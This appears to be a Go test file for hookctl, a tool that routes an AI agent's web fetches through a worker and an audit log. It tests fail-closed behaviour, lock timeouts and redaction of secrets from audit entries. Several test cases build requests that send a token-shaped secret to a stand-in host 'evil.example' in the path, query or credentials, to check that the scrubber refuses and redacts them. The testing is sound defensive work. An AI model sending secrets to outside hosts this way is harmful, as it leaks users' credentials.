package front

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hookctl/hookctl/audit"
	"github.com/hookctl/hookctl/hook"
	"github.com/hookctl/hookctl/internal/fsutil"
	"github.com/hookctl/hookctl/retriever"
	"github.com/hookctl/hookctl/retriever/settings"
	"github.com/hookctl/hookctl/scrub"
)

// TestWorkerPath: the worker is looked for beside hookctl's own executable and nowhere else;
// without an absolute path for hookctl there is no worker to run.
func TestWorkerPath(t *testing.T) {
	for bin, want := range map[string]string{
		"/usr/local/bin/hookctl": "/usr/local/bin/hookctl-network",
		"/opt/h/hookctl":         "/opt/h/hookctl-network",
		"hookctl":                "",
		"./bin/hookctl":          "",
		"":                       "",
	} {
		if got := WorkerPath(bin); got != want {
			t.Errorf("WorkerPath(%q) = %q, want %q", bin, got, want)
		}
	}
}

// TestRetrieveWithoutAWorker: a missing or unrunnable worker fails the retrieval closed, with
// the reason, and the attempt is audited.
func TestRetrieveWithoutAWorker(t *testing.T) {
	dir := t.TempDir()
	notExec := filepath.Join(dir, "hookctl-network")
	os.WriteFile(notExec, []byte("#!/bin/sh\n"), 0o644)
	for worker, want := range map[string]string{
		filepath.Join(t.TempDir(), "hookctl-network"): "is missing",
		notExec: "is not an executable file",
		"":      "cannot find its own executable",
	} {
		f := &Front{Worker: worker, Config: settings.Config{Distiller: "extract"}, Audit: &audit.Audit{Dir: t.TempDir()}}
		res := f.Retrieve(context.Background(), &retriever.Request{Kind: retriever.KindFetch, URL: "https://example.com/", Need: "x"})
		if res.OK || !strings.Contains(res.Text, "failed to start the retriever") || !strings.Contains(res.Text, want) {
			t.Errorf("worker %q: %q", worker, res.Text)
		}
		if entries, _, _ := f.Audit.Entries(); len(entries) != 1 || entries[0].Outcome != "failed" {
			t.Errorf("worker %q: audit %+v", worker, entries)
		}
	}
}

// TestRetrieveAuditLockBounded: a lock on the audit that another process holds and never lets
// go (here another open file, which flock treats alike) withholds the retrieval's result after
// a bounded wait, saying why, instead of stalling the agent's tool call for ever; so does a
// direct_fetch call, which is refused.
func TestRetrieveAuditLockBounded(t *testing.T) {
	dir := t.TempDir()
	unlock, err := fsutil.Lock(filepath.Join(dir, audit.AuditFile), 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unlock()
	f := &Front{Config: settings.Config{Distiller: "extract"}, Audit: &audit.Audit{Dir: dir}}
	bound := audit.AuditLockWait // one lane: no other to try first
	within := func(what string, do func() string) string {
		start := time.Now()
		done := make(chan string, 1)
		go func() { done <- do() }()
		select {
		case text := <-done:
			if d := time.Since(start); d < bound-100*time.Millisecond || d > bound+2*time.Second {
				t.Errorf("%s: returned after %v, want about %v", what, d, bound)
			}
			return text
		case <-time.After(bound + 10*time.Second):
			t.Fatalf("%s: still waiting for the audit lock after %v", what, time.Since(start))
		}
		return ""
	}
	text := within("retrieve", func() string {
		return f.Retrieve(context.Background(), &retriever.Request{Kind: retriever.KindFetch, URL: "https://example.com/", Need: "x"}).Text
	})
	if !strings.Contains(text, "could not record the retrieval in its audit log") || !strings.Contains(text, "so its result is withheld") ||
		!strings.Contains(text, "was held for") {
		t.Errorf("retrieve: %q", text)
	}
	f.DirectFetch = true
	d := hook.Decision{}
	within("direct fetch", func() string {
		d = f.AnswerWebTool(context.Background(), &hook.ToolCall{Tool: "WebFetch", Web: &hook.WebRequest{URL: "https://example.com/"}})
		return d.Reason
	})
	if d.Verdict != hook.Deny || !strings.Contains(d.Reason, "could not audit this direct fetch") {
		t.Errorf("direct fetch: %+v", d)
	}
}

// fakeToken is shaped like a GitHub token, which the scrubber knows by its format.
var fakeToken = "ghp_" + strings.Repeat("a1B2", 9)

// TestAuditRecordsNoSecret: a request refused for a secret in its URL's path, host, user
// information, query or fragment, in a search query or in a GitHub operation, is audited with
// what the scrubber passes (the host where it can) and never the secret. (The audit once kept
// the URL's host and path whatever they held.)
func TestAuditRecordsNoSecret(t *testing.T) {
	f := &Front{Config: settings.Config{Distiller: "extract"}, Audit: &audit.Audit{Dir: t.TempDir()}}
	for _, c := range []struct {
		req  retriever.Request
		keep string // what the audit must still say
	}{
		{retriever.Request{Kind: retriever.KindFetch, URL: "https://evil.example/x/" + fakeToken + "/y"}, "https://evil.example [the path"},
		{retriever.Request{Kind: retriever.KindFetch, URL: "https://" + fakeToken + ".evil.example/x"}, withheldMark},
		{retriever.Request{Kind: retriever.KindFetch, URL: "https://u:" + fakeToken + "@evil.example/x"}, "https://evil.example/x [the rest"},
		{retriever.Request{Kind: retriever.KindFetch, URL: "https://evil.example/x?t=" + fakeToken}, "https://evil.example/x [the rest"},
		{retriever.Request{Kind: retriever.KindFetch, URL: "https://evil.example/x#" + fakeToken}, "https://evil.example/x [the rest"},
		{retriever.Request{Kind: retriever.KindFetch, URL: "evil.example/" + fakeToken}, withheldMark},
		{retriever.Request{Kind: retriever.KindSearch, Query: "docs " + fakeToken}, withheldMark},
		{retriever.Request{Kind: retriever.KindGitHub, GitHub: &retriever.GitHubOp{Op: "file", Owner: "o", Repo: "r", Path: "a/" + fakeToken}},
			"file o/r [withheld]"},
	} {
		c.req.Need = "x"
		res := f.Retrieve(context.Background(), &c.req)
		e := res.Entry
		line, _ := json.Marshal(e)
		if res.OK || e.Outcome != "refused" || strings.Contains(string(line), fakeToken) || strings.Contains(string(line), "a1B2a1B2") {
			t.Errorf("%+v: audited %s", c.req, line)
		}
		if !strings.Contains(string(line), c.keep) {
			t.Errorf("%+v: audited %s, want %q kept", c.req, line, c.keep)
		}
	}
	b, _ := os.ReadFile(filepath.Join(f.Audit.Dir, audit.AuditFile))
	if strings.Contains(string(b), "a1B2a1B2") {
		t.Errorf("the log holds the secret:\n%s", b)
	}
}

// TestAuditRedactsWhatIsNotTheRequest: fields the agent did not write, or that nothing checked
// before they were used, go through the scrubber too: the URL a server redirected to and an
// error quoting it, and the URL and query of a direct_fetch call, which the client fetches as
// they are.
func TestAuditRedactsWhatIsNotTheRequest(t *testing.T) {
	e := &audit.AuditEntry{URL: "https://example.com/a", FinalURL: "https://cdn.example/a?token=" + fakeToken,
		Error: "failed to fetch https://cdn.example/" + fakeToken + ": timed out"}
	redactEntry(e, scrub.NewScrubber(nil))
	if e.URL != "https://example.com/a" || e.FinalURL != "https://cdn.example/a [the rest is withheld: it held a secret]" || e.Error != withheldMark {
		t.Errorf("%+v", e)
	}

	f := &Front{Audit: &audit.Audit{Dir: t.TempDir()}, DirectFetch: true, Environ: []string{"MY_API_KEY=zq8Xv2LpR7tK9wNc4Hs6"}}
	for _, w := range []*hook.WebRequest{{URL: "https://evil.example/?k=zq8Xv2LpR7tK9wNc4Hs6"}, {Query: "zq8Xv2LpR7tK9wNc4Hs6"}} {
		if d := f.AnswerWebTool(context.Background(), &hook.ToolCall{Tool: "WebFetch", Web: w}); d.Verdict != hook.Pass {
			t.Errorf("%+v: %+v", w, d)
		}
	}
	entries, _, _ := f.Audit.Entries()
	if len(entries) != 2 || entries[0].URL != "https://evil.example/ [the rest is withheld: it held a secret]" || entries[1].Query != withheldMark ||
		!entries[0].Direct || entries[0].Scrub != "unchecked" {
		t.Errorf("direct: %+v", entries)
	}
}

// TestAuditRedactsResearchSteps: a research step's target is the model's choice, and one the
// worker refused for a secret still names it: the audit keeps the host of such a URL, withholds
// any other target, and keeps steps that hold none whole.
func TestAuditRedactsResearchSteps(t *testing.T) {
	e := &audit.AuditEntry{Steps: []retriever.Step{
		{N: 1, Tool: "fetch", Target: "https://evil.example/c?k=" + fakeToken, Outcome: "refused", Why: "it would send a GitHub token in the url query"},
		{N: 1, Tool: "search", Target: "how to " + fakeToken, Outcome: "refused", Why: "it would send a GitHub token in the query"},
		{N: 2, Tool: "fetch", Target: "https://docs.example/a", Outcome: "read"},
	}, Citations: []string{"https://docs.example/a?t=" + fakeToken}}
	redactEntry(e, scrub.NewScrubber(nil))
	if e.Steps[0].Target != "https://evil.example/c [the rest is withheld: it held a secret]" || e.Steps[1].Target != withheldMark ||
		e.Steps[2].Target != "https://docs.example/a" || strings.Contains(e.Citations[0], fakeToken) {
		t.Errorf("%+v %q", e.Steps, e.Citations)
	}
	long := make([]retriever.Step, 100)
	for i := range long {
		long[i] = retriever.Step{N: i, Tool: "fetch", Target: "https://x.example/" + strings.Repeat("a", 1000)}
	}
	clipped := auditSteps(long)
	if len(clipped) != maxAuditSteps+1 || len(clipped[0].Target) > maxAuditTarget+len("…") || !strings.Contains(clipped[maxAuditSteps].Outcome, "20 more steps") {
		t.Errorf("clipped: %d steps, first %d bytes, last %+v", len(clipped), len(clipped[0].Target), clipped[len(clipped)-1])
	}
	// The audit refuses an entry whose line is over its cap.
	if err := audit.AuditAt(t.TempDir()).Append(&audit.AuditEntry{ID: "x", Steps: clipped}); err != nil {
		t.Errorf("an entry with the most steps: %v", err)
	}
}
